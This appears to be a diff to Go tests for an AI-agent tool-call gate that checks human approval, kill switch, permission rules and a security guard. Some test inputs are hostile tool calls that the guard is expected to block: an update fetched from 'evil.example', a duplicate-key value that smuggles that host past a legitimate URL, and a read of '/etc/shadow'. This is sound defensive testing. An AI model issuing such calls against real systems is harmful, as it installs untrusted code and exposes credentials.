@@ -13,26 +13,26 @@ import (
 	"github.com/google/go-cmp/cmp"
 
 	"weir/internal/gate"
-	"weir/internal/ruleset/permission"
-	calls "weir/internal/ruleset/wire"
+	"weir/internal/permission"
+	"weir/internal/toolguard"
 )
 
 // carrier knows agent_update, and notes what it was made to do.
 type carrier struct {
 	ran []string
-	run func(context.Context) *calls.Error
+	run func(context.Context) *toolguard.Error
 }
 
-func (c *carrier) Prepare(tool string, args json.RawMessage) (Job, *calls.Error) {
+func (c *carrier) Prepare(tool string, args json.RawMessage) (Job, *toolguard.Error) {
 	if tool != "agent_update" {
-		return Job{}, &calls.Error{Code: calls.UnknownTool, Message: "unknown"}
+		return Job{}, &toolguard.Error{Code: toolguard.UnknownTool, Message: "unknown"}
 	}
 	var in struct{ URL, SHA256 string }
 	if json.Unmarshal(args, &in) != nil || in.SHA256 == "" {
-		return Job{}, &calls.Error{Code: calls.InvalidArgs, Message: "needs sha256"}
+		return Job{}, &toolguard.Error{Code: toolguard.InvalidArgs, Message: "needs sha256"}
 	}
 	read := marshal(map[string]string{"url": in.URL, "sha256": in.SHA256})
-	return Job{Args: read, Asks: "agent_update: " + in.URL, Run: func(ctx context.Context, who Asker) (json.RawMessage, *calls.Error) {
+	return Job{Args: read, Asks: "agent_update: " + in.URL, Run: func(ctx context.Context, who Asker) (json.RawMessage, *toolguard.Error) {
 		c.ran = append(c.ran, in.URL+" "+who.Container.ID)
 		if c.run != nil {
 			if err := c.run(ctx); err != nil {
@@ -68,26 +68,26 @@ func TestCallK9(t *testing.T) {
 		asked             int
 	}{
 		"a person allows":      {line: update, decide: allow, asked: 1},
-		"also in observe":      {line: update, mode: "observe", decide: refuse(gate.Denied), code: calls.Unauthorized, says: "not now", asked: 1},
-		"in seal":              {line: update, mode: "seal", rules: "allow: [agent_update]", decide: refuse(gate.Sealed), code: calls.Unauthorized, says: "closed", asked: 1},
-		"a person refuses":     {line: update, decide: refuse(gate.Denied), code: calls.Unauthorized, says: "a person looked at this call", asked: 1},
-		"nobody answers":       {line: update, decide: refuse(gate.Timeout), code: calls.Timeout, says: "in time", asked: 1},
-		"nobody is there":      {line: update, decide: refuse(gate.NoApprover), code: calls.Unauthorized, says: "nobody is there", asked: 1},
-		"kill switch":          {line: update, killed: true, decide: allow, code: calls.Disabled, says: "turned off"},
-		"guard":                {line: callLine("agent_update", "https://evil.example/agent"), decide: allow, code: calls.Blocked, says: "update-source"},
-		"guard in observe":     {line: callLine("agent_update", "http://github.com/a/b/releases/download/v1/c"), mode: "observe", decide: allow, code: calls.Blocked, says: "update-source"},
-		"guard, twice":         {line: `{"id":"7d31","tool":"agent_update","args":{"url":"https://evil.example/a","url":"` + release + `","sha256":"00"}}`, decide: allow, code: calls.Blocked, says: "evil.example"},
+		"also in observe":      {line: update, mode: "observe", decide: refuse(gate.Denied), code: toolguard.Unauthorized, says: "not now", asked: 1},
+		"in seal":              {line: update, mode: "seal", rules: "allow: [agent_update]", decide: refuse(gate.Sealed), code: toolguard.Unauthorized, says: "closed", asked: 1},
+		"a person refuses":     {line: update, decide: refuse(gate.Denied), code: toolguard.Unauthorized, says: "a person looked at this call", asked: 1},
+		"nobody answers":       {line: update, decide: refuse(gate.Timeout), code: toolguard.Timeout, says: "in time", asked: 1},
+		"nobody is there":      {line: update, decide: refuse(gate.NoApprover), code: toolguard.Unauthorized, says: "nobody is there", asked: 1},
+		"kill switch":          {line: update, killed: true, decide: allow, code: toolguard.Disabled, says: "turned off"},
+		"guard":                {line: callLine("agent_update", "https://evil.example/agent"), decide: allow, code: toolguard.Blocked, says: "update-source"},
+		"guard in observe":     {line: callLine("agent_update", "http://github.com/a/b/releases/download/v1/c"), mode: "observe", decide: allow, code: toolguard.Blocked, says: "update-source"},
+		"guard, twice":         {line: `{"id":"7d31","tool":"agent_update","args":{"url":"https://evil.example/a","url":"` + release + `","sha256":"00"}}`, decide: allow, code: toolguard.Blocked, says: "evil.example"},
 		"a rule allows":        {line: update, rules: "allow: [agent_update]", decide: refuse(gate.Denied)},
-		"a rule denies":        {line: update, rules: "deny: [agent_update]", decide: allow, code: calls.Unauthorized, says: "permission rules"},
-		"denies, in observe":   {line: update, mode: "observe", rules: "deny: [agent_update]", decide: allow, code: calls.Unauthorized, says: "permission rules"},
-		"a rule denies a host": {line: update, rules: "deny: ['agent_update(domain:github.com)']", decide: allow, code: calls.Unauthorized, says: "permission rules"},
+		"a rule denies":        {line: update, rules: "deny: [agent_update]", decide: allow, code: toolguard.Unauthorized, says: "permission rules"},
+		"denies, in observe":   {line: update, mode: "observe", rules: "deny: [agent_update]", decide: allow, code: toolguard.Unauthorized, says: "permission rules"},
+		"a rule denies a host": {line: update, rules: "deny: ['agent_update(domain:github.com)']", decide: allow, code: toolguard.Unauthorized, says: "permission rules"},
 		"a rule asks":          {line: update, rules: "ask: [agent_update]", decide: allow, asked: 1},
-		"no sum":               {line: `{"v":"0.5","id":"7d31","tool":"agent_update","args":{"url":"` + release + `"}}`, decide: allow, code: calls.InvalidArgs, says: "sha256"},
-		"another tool":         {line: `{"v":"0.5","id":"7d31","tool":"fs_read","args":{"path":"/work/a"}}`, decide: allow, code: calls.UnknownTool},
-		"guard, another tool":  {line: `{"v":"0.5","id":"7d31","tool":"fs_read","args":{"path":"/etc/shadow"}}`, decide: allow, code: calls.Blocked, says: "shadow-file"},
+		"no sum":               {line: `{"v":"0.5","id":"7d31","tool":"agent_update","args":{"url":"` + release + `"}}`, decide: allow, code: toolguard.InvalidArgs, says: "sha256"},
+		"another tool":         {line: `{"v":"0.5","id":"7d31","tool":"fs_read","args":{"path":"/work/a"}}`, decide: allow, code: toolguard.UnknownTool},
+		"guard, another tool":  {line: `{"v":"0.5","id":"7d31","tool":"fs_read","args":{"path":"/etc/shadow"}}`, decide: allow, code: toolguard.Blocked, says: "shadow-file"},
 		"0.4":                  {line: strings.Replace(update, "0.5", "0.4", 1), decide: allow, asked: 1},
-		"another version":      {line: strings.Replace(update, "0.5", "9", 1), decide: allow, code: calls.InvalidArgs, says: "version"},
-		"no tool":              {line: `{"v":"0.5","id":"7d31"}`, decide: allow, code: calls.InvalidArgs, says: "no tool"},
+		"another version":      {line: strings.Replace(update, "0.5", "9", 1), decide: allow, code: toolguard.InvalidArgs, says: "version"},
+		"no tool":              {line: `{"v":"0.5","id":"7d31"}`, decide: allow, code: toolguard.InvalidArgs, says: "no tool"},
 	} {
 		t.Run(name, func(t *testing.T) {
 			h, did := &host{asker: inside(), decide: c.decide}, new(carrier)
@@ -119,7 +119,7 @@ func TestCallK9(t *testing.T) {
 			if len(h.confirmed) != c.asked || c.asked == 1 && h.confirmed[0] != "agent_update: "+release {
 				t.Errorf("asked %q", h.confirmed)
 			}
-			if (code == calls.Blocked || code == calls.Disabled) && len(h.denied) != 1 {
+			if (code == toolguard.Blocked || code == toolguard.Disabled) && len(h.denied) != 1 {
 				t.Errorf("written: %+v", h.denied)
 			}
 		})
@@ -155,7 +155,7 @@ func TestCallOrderK1(t *testing.T) {
 	s.Carry(did)
 	s.Use(Rules{Killed: func() bool { return on }})
 	a := s.call(t.Context(), []byte(callLine("agent_update", release)), func() (Asker, error) { return inside(), nil })
-	if a.OK || a.Error.Code != calls.Disabled || len(did.ran) > 0 {
+	if a.OK || a.Error.Code != toolguard.Disabled || len(did.ran) > 0 {
 		t.Errorf("%+v, %v", a, did.ran)
 	}
 }
@@ -177,7 +177,7 @@ func TestCallSocketK9(t *testing.T) {
 	path := serveWith(t, h, did)
 	conn := dial(t, path)
 	in := bufio.NewReader(conn)
-	read := func() (a calls.Answer) {
+	read := func() (a toolguard.Answer) {
 		t.Helper()
 		line, err := in.ReadBytes('\n')
 		if err != nil || json.Unmarshal(line, &a) != nil {
@@ -195,16 +195,16 @@ func TestCallSocketK9(t *testing.T) {
 	}
 	h.set(func() { h.err = io.EOF })
 	io.WriteString(conn, callLine("agent_update", release)+"\n")
-	if a := read(); a.OK || a.Error.Code != calls.Unauthorized {
+	if a := read(); a.OK || a.Error.Code != toolguard.Unauthorized {
 		t.Errorf("got %+v", a)
 	}
 	h.set(func() { h.err = nil })
 	begun, ended := make(chan struct{}), make(chan struct{})
-	did.run = func(ctx context.Context) *calls.Error {
+	did.run = func(ctx context.Context) *toolguard.Error {
 		close(begun)
 		<-ctx.Done()
 		close(ended)
-		return &calls.Error{Code: calls.Internal, Message: "cancelled"}
+		return &toolguard.Error{Code: toolguard.Internal, Message: "cancelled"}
 	}
 	io.WriteString(conn, callLine("agent_update", release)+"\n")
 	<-begun
@@ -214,7 +214,7 @@ func TestCallSocketK9(t *testing.T) {
 	bare := dial(t, serve(t, &host{asker: inside()}))
 	in = bufio.NewReader(bare)
 	io.WriteString(bare, callLine("agent_update", release)+"\n")
-	if a := read(); a.OK || a.Error.Code != calls.UnknownTool {
+	if a := read(); a.OK || a.Error.Code != toolguard.UnknownTool {
 		t.Errorf("got %+v", a)
 	}
 }
